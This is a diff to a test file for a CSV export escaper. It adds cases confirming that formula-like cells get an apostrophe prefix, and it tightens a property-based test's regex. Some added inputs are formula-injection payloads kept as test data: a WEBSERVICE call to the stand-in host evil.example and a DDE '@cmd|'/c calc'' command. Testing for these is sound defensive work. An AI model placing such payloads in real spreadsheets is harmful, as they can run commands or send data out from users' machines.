@@ -23,6 +23,12 @@ test.each([
   ['text\n =1', `"text\n '=1"`],
   ['+998901112237, @lola_uz', `"'+998901112237, @lola_uz"`],
   ['+998901112237, +998 91 765-43-21', `"'+998901112237, +998 91 765-43-21"`],
+  ['+998901112237, @lola_uz, onasi', `"'+998901112237, @lola_uz, onasi"`],
+  ['Oʻgʻlim uchun, @lola_uz ga yozing.\nRahmat!', '"Oʻgʻlim uchun, @lola_uz ga yozing.\nRahmat!"'],
+  ['text;@lola WEBSERVICE("https://evil.example")', `"text;'@lola WEBSERVICE(""https://evil.example"")"`],
+  ["text;@cmd|'/c calc'!A0", `"text;'@cmd|'/c calc'!A0"`],
+  ['text;@lola,=1', `"text;'@lola,'=1"`],
+  ['text;@lola, ', `"text;'@lola, "`],
   ['text;@lola,SUM(1)', `"text;'@lola,SUM(1)"`],
   ['text;@SUM(1)', `"text;'@SUM(1)"`],
   ['text;+1234567+A1', `"text;'+1234567+A1"`],
@@ -91,8 +97,9 @@ test('a spreadsheet that expects another separator finds no formula either', () 
   fc.assert(
     fc.property(text, text, fc.constantFrom(';', '\t'), (name, message, expected) => {
       const cells = readLoosely(csvLine(['K7Q2-9F3D', name, message], ','), expected);
-      // A name before a quotation mark, or before nothing, is none.
-      for (const cell of cells) expect(cell.trimStart()).not.toMatch(/^(?!@a+(?:"|$))[=+\-@]/);
+      // A name with nothing behind it but words and numbers does nothing.
+      for (const cell of cells)
+        expect(cell.trimStart()).not.toMatch(/^(?!@a+(?:[a1 ',;@+-]*)(?:"|$))[=+\-@]/);
     }),
     { numRuns: 3000 },
   );
